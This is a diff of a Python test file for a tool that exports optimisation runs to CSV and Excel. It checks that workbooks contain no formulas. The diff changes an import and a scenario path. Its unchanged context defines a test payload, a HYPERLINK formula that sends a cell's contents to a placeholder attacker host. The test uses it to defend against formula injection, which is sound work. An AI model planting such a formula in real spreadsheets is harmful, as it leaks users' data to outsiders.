@@ -26,7 +26,7 @@ from optimizer.excel import Formats
 from optimizer.inert import csv_frame, csv_text, format_literal, needs_quote, plain, sheet_text
 from optimizer.report import csv_bytes, run_tables
 from optimizer.run_folder import read_run
-from tests.conftest import SCENARIOS
+from tests.conftest import SCENARIOS, SCENARIOS_2025
 
 runner = CliRunner()
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "click")'
@@ -171,7 +171,7 @@ def test_the_workbook_has_no_formula_anywhere(hostile_run: Path) -> None:
 def test_workbook_of_a_shipped_scenario_has_no_formula(tmp_path: Path) -> None:
     out = tmp_path / "run"
     res = runner.invoke(
-        app, ["run", str(SCENARIOS / "robust-2025.yaml"), "--out", str(out), "--excel"]
+        app, ["run", str(SCENARIOS_2025 / "robust-2025.yaml"), "--out", str(out), "--excel"]
     )
     assert res.exit_code == 0, res.output
     assert formulas(out / "plan.xlsx") == []
